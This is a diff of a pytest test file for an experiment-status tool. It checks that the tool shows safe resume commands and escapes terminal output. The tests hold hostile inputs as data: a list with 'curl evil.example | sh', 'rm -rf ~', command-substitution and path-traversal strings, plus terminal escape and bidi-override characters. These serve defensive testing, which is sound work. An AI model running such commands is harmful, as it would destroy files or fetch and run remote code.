@@ -1,17 +1,23 @@
-"""`python -m dwf_cluster.status`: how experiments stand, whatever the files say."""
+"""`python -m dwf_cluster.status`: the state of each experiment, whatever the files say."""
 
 from __future__ import annotations
 
 import json
+import os
+import shlex
 import subprocess
 import sys
+from collections.abc import Callable, Sequence
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
 import pytest
 
 from dwf_cluster import status
+from dwf_cluster.experiment import MAX_JSON_BYTES, build
 from dwf_cluster.store import Store
+
+from .conftest import write_npz
 
 STATUS = {
     "run": 1,
@@ -28,33 +34,37 @@ STATUS = {
 }
 
 
-def _experiment(folder: Path, seed: int, **changed: object) -> None:
-    store = Store(str(folder), f"digits-seed{seed}-0123456789")
+def _experiment(folder: Path, seed: int, assignments: Sequence[str] = (), **changed: object) -> Store:
+    experiment = build("digits", seed, assignments)
+    store = Store(str(folder), experiment.folder)
     store.write("status.json", json.dumps(STATUS | changed).encode())
+    store.write("experiment.json", experiment.to_json().encode())
+    return store
 
 
 def _ago(seconds: float) -> str:
     return (datetime.now(timezone.utc) - timedelta(seconds=seconds)).isoformat()
 
 
-def test_it_says_what_is_done_what_runs_what_failed_and_how_to_go_on(tmp_path: Path) -> None:
+def test_it_shows_each_state_why_an_experiment_failed_and_how_to_resume_it(tmp_path: Path) -> None:
     part = {"experts": [2, 3], "joint": [0, 1], "evaluate": [0, 24]}
     failed = "stage experts, expert pgd-1: NonFiniteLoss: the loss became nan in epoch 3, step 7 of pgd-1"
-    _experiment(tmp_path, 0)
-    _experiment(tmp_path, 1, state="running", heartbeat=_ago(4), stages=part, rows={}, job="17")
-    _experiment(tmp_path, 2, state="failed", reason=failed, stages=part)
-    _experiment(tmp_path, 3, state="running", heartbeat=_ago(400), stages=part)
+    names = [_experiment(tmp_path, 0).folder]
+    names.append(_experiment(tmp_path, 1, state="running", heartbeat=_ago(4), stages=part, rows={}, job="17").folder)
+    names.append(_experiment(tmp_path, 2, state="failed", reason=failed, stages=part).folder)
+    names.append(_experiment(tmp_path, 3, state="running", heartbeat=_ago(400), stages=part).folder)
     (tmp_path / "digits-seed4-0123456789").mkdir()
     (tmp_path / "something else").mkdir()
+    resume = f"    resume: python -m dwf_cluster.launch --local --preset digits --seed {{}} --storage {tmp_path}"
     assert status.lines(str(tmp_path)) == [
         "experiment               state    experts  joint  evaluate  seconds  rows  where",
-        "digits-seed0-0123456789  done     3/3      1/1    24/24     61       42    n1",
-        "digits-seed1-0123456789  running  2/3      0/1    0/24      61             n1 job 17, heartbeat 4 s ago",
-        "digits-seed2-0123456789  failed   2/3      0/1    0/24      61       42    n1",
+        f"{names[0]}  done     3/3      1/1    24/24     61       42    n1",
+        f"{names[1]}  running  2/3      0/1    0/24      61             n1 job 17, heartbeat 4 s ago",
+        f"{names[2]}  failed   2/3      0/1    0/24      61       42    n1",
         f"    {failed}",
-        "    resume: python -m dwf_cluster.launch --local",
-        "digits-seed3-0123456789  lost     2/3      0/1    0/24      61       42    n1, heartbeat 400 s ago",
-        "    resume: python -m dwf_cluster.launch --local",
+        resume.format(2),
+        f"{names[3]}  lost     2/3      0/1    0/24      61       42    n1, heartbeat 400 s ago",
+        resume.format(3),
         "digits-seed4-0123456789  unknown",
     ]
 
@@ -78,28 +88,186 @@ def test_a_file_of_another_kind_is_an_unknown_state(tmp_path: Path, content: byt
     assert status.lines(str(tmp_path))[1] == "digits-seed0-0123456789  unknown"
 
 
+# ------------------------------------------------------------------------------- the command that resumes
+
+
 @pytest.mark.parametrize(
-    ("resume", "shown"),
+    ("assignments", "job", "words"),
     [
+        ([], "", ["--local", "--preset", "digits", "--seed", "3"]),
+        ([], "4711", ["--slurm", "--preset", "digits", "--seed", "3"]),
         (
-            "python -m dwf_cluster.launch --local --set 'pgd.steps=1,2'",
-            "python -m dwf_cluster.launch --local --set pgd.steps=1,2",
+            ["pgd.steps=1,2", "data.mean=0.1", "data.std=0.2", "evaluation.beyond=", "experts.epochs=7"],
+            "",
+            ["--local", "--preset", "digits", "--seed", "3", "--set", "evaluation.beyond="],
         ),
-        ("python -m dwf_cluster.launch --local; rm -rf ~", "python -m dwf_cluster.launch '--local;' rm -rf '~'"),
-        ("python -m dwf_cluster.launch $(id) `id` | sh", "python -m dwf_cluster.launch '$(id)' '`id`' '|' sh"),
-        ("rm -rf ~", "the command that began it, again"),
-        ("curl evil | sh # python -m dwf_cluster.launch --local", "the command that began it, again"),
-        ("python -m dwf_cluster.launch 'unfinished", "the command that began it, again"),
+        (["preset=mine"], "", ["--local", "--preset", "cifar10", "--seed", "3", "--set", "preset=mine"]),
     ],
 )
-def test_a_hostile_store_puts_nothing_into_a_shell(tmp_path: Path, resume: str, shown: str) -> None:
+def test_the_resume_command_begins_the_same_experiment(
+    tmp_path: Path, assignments: list[str], job: str, words: list[str]
+) -> None:
+    store = _experiment(tmp_path, 3, assignments, state="stopped", job=job)
+    command = shlex.split(status.lines(str(tmp_path))[-1])
+    assert command[:4] == ["resume:", "python", "-m", "dwf_cluster.launch"]
+    assert set(words) <= set(command)
+    options = command[4:]
+    sets = options[options.index("--set") + 1 :] if "--set" in options else []
+    assert options[options.index("--storage") + 1] == str(tmp_path)
+    preset, seed = options[options.index("--preset") + 1], options[options.index("--seed") + 1]
+    assert build(preset, int(seed), sets).folder == store.folder
+
+
+def test_own_images_are_resumed_from_their_file_without_reading_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    path = write_npz(tmp_path / "my $(images).npz")
+    experiment = build(str(path), 1, ["experts.epochs=7"])
+    store = Store("runs", experiment.folder)
+    store.write("status.json", json.dumps(STATUS | {"state": "failed"}).encode())
+    store.write("experiment.json", experiment.to_json().encode())
+    path.unlink()
+    assert status.lines("runs")[-1] == (
+        f"    resume: python -m dwf_cluster.launch --local --preset '{path}' --seed 1 --storage runs "
+        "--set experts.epochs=7"
+    )
+
+
+HOSTILE = [
+    "python jobs/../../../../tmp/evil.py --x",
+    "ray job submit --working-dir . -- bash -c 'curl evil.example | sh'",
+    "sbatch slurm/../../../tmp/evil.sh",
+    "python -m dwf_cluster.launch --local --storage s3://somebody-elses",
+    "python -m dwf_cluster.launch $(id) `id` | sh",
+    "python -m dwf_cluster.launch '\x1b[31m'",
+    "python -m dwf_cluster.launch \u202e--local",
+    "rm -rf ~",
+]
+
+
+@pytest.mark.parametrize("resume", HOSTILE)
+def test_the_stored_resume_command_is_never_shown(tmp_path: Path, resume: str) -> None:
     _experiment(tmp_path, 0, state="stopped", resume=resume)
-    assert status.lines(str(tmp_path))[-1] == f"    resume: {shown}"
+    assert status.lines(str(tmp_path))[-1] == (
+        f"    resume: python -m dwf_cluster.launch --local --preset digits --seed 0 --storage {tmp_path}"
+    )
 
 
-def test_nor_into_a_terminal(tmp_path: Path) -> None:
-    _experiment(tmp_path, 0, state="failed", reason="\x1b]0;owned\x07\x1b[2J", host="n1\x1b[31m")
-    assert all(character.isprintable() for line in status.lines(str(tmp_path)) for character in line)
+def _without(store: Store) -> None:
+    store.remove("experiment.json")
+
+
+def _another_experiment(store: Store) -> None:
+    store.write("experiment.json", build("digits", 1).to_json().encode())
+
+
+def _no_json(store: Store) -> None:
+    store.write("experiment.json", b"[" * 100_000)
+
+
+def _hostile_source(store: Store) -> None:
+    fields = json.loads(build("digits").to_json())
+    fields["data"]["source"] = "--storage=/tmp;\x1b[31m.npz"
+    store.write("experiment.json", json.dumps(fields).encode())
+
+
+def _directory(store: Store) -> None:
+    store.remove("experiment.json")
+    os.mkdir(store.path("experiment.json"))
+
+
+def _pipe(store: Store) -> None:
+    store.remove("experiment.json")
+    os.mkfifo(store.path("experiment.json"))
+
+
+@pytest.mark.parametrize("damage", [_without, _another_experiment, _no_json, _hostile_source, _directory, _pipe])
+def test_an_experiment_that_cannot_be_read_is_resumed_by_the_command_that_began_it(
+    tmp_path: Path, damage: Callable[[Store], None]
+) -> None:
+    damage(_experiment(tmp_path, 0, state="stopped"))
+    assert status.lines(str(tmp_path))[-1] == "    resume: the command that began it, again"
+
+
+# --------------------------------------------------------------------------------------- a hostile store
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"reason": "\x1b]0;owned\x07\x1b[2J", "host": "n1\x1b[31m"},
+        {"host": "n1\u202e\u2066", "job": "\u200b\n", "reason": "\u202egnp.exe"},
+        {"host": "h" * 100_000, "reason": "r" * 100_000},
+        {"reason": "line\n" * 1000},
+        {"seconds": 1e300},
+        {"seconds": float("inf")},
+        {"seconds": float("nan")},
+        {"seconds": -5},
+        {"stages": {"experts": [10**4000, -1]}, "rows": {"jobs": 10**4299, "metrics": 10**4299 * 9}},
+        {"state": "running", "heartbeat": "0001-01-01T00:00:00+23:59"},
+        {"state": "running", "heartbeat": "9999-12-31T23:59:59-23:59", "host": "h" * 1000},
+    ],
+    ids=lambda changed: ",".join(f"{name}" for name in changed),
+)
+def test_nothing_from_a_store_reaches_the_terminal_unescaped_or_unbounded(
+    tmp_path: Path, changed: dict[str, object]
+) -> None:
+    _experiment(tmp_path, 0, **({"state": "failed"} | changed))
+    shown = status.lines(str(tmp_path))
+    assert len(shown) <= 23
+    assert all(line.isprintable() and len(line) <= 420 for line in shown)
+    assert len(shown[1]) <= 200
+
+
+def test_clocks_that_differ_are_not_shown_as_negative_ages(tmp_path: Path) -> None:
+    _experiment(tmp_path, 0, state="running", heartbeat=_ago(-30))
+    _experiment(tmp_path, 1, state="running", heartbeat=_ago(-300))
+    assert status.lines(str(tmp_path))[1].endswith("n1, heartbeat 0 s ago")
+    assert status.lines(str(tmp_path))[2].endswith("n1, heartbeat ahead of this machine's clock")
+
+
+def _status_directory(path: Path) -> None:
+    path.mkdir()
+
+
+def _status_pipe(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def _status_loop(path: Path) -> None:
+    path.symlink_to(path)
+
+
+def _status_device(path: Path) -> None:
+    path.symlink_to("/dev/zero")
+
+
+def _status_large(path: Path) -> None:
+    path.write_bytes(b" " * (MAX_JSON_BYTES + 1))
+
+
+@pytest.mark.parametrize(
+    ("make", "reason"),
+    [
+        (_status_directory, "Is a directory"),
+        (_status_pipe, "not a regular file"),
+        (_status_loop, "Too many levels of symbolic links"),
+        (_status_device, "not a regular file"),
+        (_status_large, "1048577 bytes of JSON, allowed are 1048576"),
+    ],
+)
+def test_a_status_that_is_no_file_does_not_hide_the_other_experiments(
+    tmp_path: Path, make: Callable[[Path], None], reason: str
+) -> None:
+    good = _experiment(tmp_path, 0)
+    bad = Store(str(tmp_path), build("digits", 1).folder)
+    os.mkdir(bad.root)
+    make(Path(bad.path("status.json")))
+    _, *shown = status.lines(str(tmp_path))
+    assert shown[0].startswith(f"{good.folder}  done ")
+    assert shown[1] == f"{bad.folder}  unknown"
+    assert shown[2] == f"    {tmp_path}/{bad.folder}/status.json: cannot be read: {reason}"
 
 
 def test_a_thousand_experiments_take_one_line_each(tmp_path: Path) -> None:
@@ -108,7 +276,21 @@ def test_a_thousand_experiments_take_one_line_each(tmp_path: Path) -> None:
     assert len(status.lines(str(tmp_path))) == 1001
 
 
-@pytest.mark.parametrize("arguments", [["gone"], ["nosuch://bucket"], ["s3://key:secret@bucket/runs"]])
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ["gone"],
+        ["nosuch://bucket"],
+        ["s3://key:secret@bucket/runs"],
+        ["zip://runs"],
+        ["data://runs"],
+        ["bytes\udcff"],
+        ["zero\0"],
+        [""],
+        ["file://"],
+        ["memory://x"],
+    ],
+)
 def test_bad_input_is_one_line(
     arguments: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
